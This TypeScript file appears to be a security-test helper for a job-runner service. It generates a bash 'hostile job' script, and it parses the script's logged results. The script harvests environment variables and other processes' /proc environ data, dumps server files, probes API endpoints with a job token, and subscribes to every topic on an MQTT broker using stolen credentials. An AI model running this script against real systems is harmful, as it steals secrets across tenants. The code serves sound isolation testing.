/** What a stranger's job tries. All that it finds is printed as base64, so that no mask can hide a leak. */
export interface HostileAims {
  readonly url: string;
  readonly broker: number;
  /** Folders and files of the server. */
  readonly places: readonly string[];
  /** `METHOD PATH`, ready to be called. */
  readonly calls: readonly string[];
}

export interface Loot {
  /** All that was printed for reading, by name of the attempt. */
  readonly found: ReadonlyMap<string, string>;
  /** Status by call. */
  readonly answers: ReadonlyMap<string, number>;
  /** What the broker sent, in hex, by attempt. */
  readonly broker: ReadonlyMap<string, string>;
}

/** One MQTT connection: CONNECT, SUBSCRIBE to everything, and what comes back within a moment. */
const LISTENER = `
const [name, port, user, password] = process.argv.slice(1);
const text = (t) => { const b = Buffer.from(t); return Buffer.concat([Buffer.from([b.length >> 8, b.length & 255]), b]); };
const size = (n) => { const out = []; do { out.push((n & 127) | (n > 127 ? 128 : 0)); n >>= 7; } while (n > 0); return Buffer.from(out); };
const packet = (head, body) => Buffer.concat([Buffer.from([head]), size(body.length), body]);
const flags = user ? 0xc2 : 2;
const who = user ? [text(user), text(password)] : [];
const connect = packet(0x10, Buffer.concat([text('MQTT'), Buffer.from([4, flags, 0, 60]), text('thief'), ...who]));
const subscribe = packet(0x82, Buffer.concat([Buffer.from([0, 1]), text('#'), Buffer.from([0])]));
let got = '';
const socket = require('node:net').connect(Number(port), '127.0.0.1', () => { socket.write(connect); socket.write(subscribe); });
socket.on('data', (chunk) => (got += chunk.toString('hex'))).on('error', () => undefined);
setTimeout(() => { console.log('@@broker ' + name + ' ' + (got || 'nothing')); process.exit(0); }, 1500);
`;

const quote = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`;

export function hostileScript({ url, broker, places, calls }: HostileAims): string {
  return `
leak() { printf '@@leak %s ' "$1"; head -c 1000000 | base64 -w0; echo; }
env | grep -v '^TURNPIKE_JOB_TOKEN=' | leak env
cat /proc/self/environ | tr '\\0' '\\n' | grep -av '^TURNPIKE_JOB_TOKEN=' | leak own
for one in /proc/[0-9]*; do
  [[ $(readlink $one/ns/pid) == "$(readlink /proc/self/ns/pid)" ]] && continue
  cat $one/environ $one/cmdline
done 2>/dev/null | leak processes
cat /proc/$PPID/cmdline /proc/1/cmdline 2>/dev/null | leak parents
for place in ${places.map(quote).join(' ')}; do
  find "$place" -type f -exec cat {} + 2>/dev/null
  cat "$place" "$place"-wal 2>/dev/null
done | leak places
find /var/tmp/turnpike-*/ -name planted -exec cat {} + 2>/dev/null | leak others
while read -r method path; do
  [[ -n $method ]] || continue
  code=$(curl -s -m 5 -o body -w '%{http_code}' -X "$method" -H "Authorization: Bearer $TURNPIKE_JOB_TOKEN" \\
    -H 'content-type: application/json' -d '{}' "${url}$path")
  printf '@@call %s %s %s\\n' "$method" "$path" "$code"
  [[ $code == 2* ]] && cat body >>bodies
done <<'CALLS'
${calls.join('\n')}
CALLS
code=$(curl -s -m 3 -o live -w '%{http_code}' -H "Authorization: Bearer $TURNPIKE_JOB_TOKEN" \\
  -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \\
  -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H 'Sec-WebSocket-Protocol: turnpike' "${url}/live")
printf '@@call UPGRADE /live %s\\n' "$code"
cat bodies live 2>/dev/null | leak bodies
cat >thief.cjs <<'THIEF'
${LISTENER.replace('slice(1)', 'slice(2)').trim()}
THIEF
node thief.cjs nobody ${broker}
node thief.cjs token ${broker} job "$TURNPIKE_JOB_TOKEN"
node thief.cjs worker ${broker} worker "$TURNPIKE_JOB_TOKEN"
echo "@@end"
`;
}

export function lootOf(log: string): Loot {
  const lines = log.split(/\r?\n/);
  const matches = (pattern: RegExp) =>
    lines.flatMap((line) => {
      const found = pattern.exec(line);
      return found ? [[found[1]!, found[2]!] as const] : [];
    });
  return {
    found: new Map(
      matches(/^@@leak (\w+) (\S*)$/).map(([name, text]) => [
        name,
        Buffer.from(text, 'base64').toString('latin1'),
      ]),
    ),
    answers: new Map(
      matches(/^@@call (\S+ \S+) (\d+)$/).map(([call, code]) => [call, Number(code)]),
    ),
    broker: new Map(matches(/^@@broker (\w+) (\S+)$/)),
  };
}
